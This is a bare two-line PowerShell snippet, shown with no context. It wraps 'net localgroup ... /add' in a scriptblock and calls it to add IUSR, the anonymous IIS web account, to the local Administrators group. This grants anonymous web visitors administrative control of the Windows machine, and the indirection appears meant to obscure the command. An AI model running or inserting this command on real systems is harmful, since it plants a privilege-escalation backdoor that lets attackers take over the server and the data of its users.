$action = { param($g, $m) net localgroup $g $m /add }
& $action 'Administrators' 'IUSR'
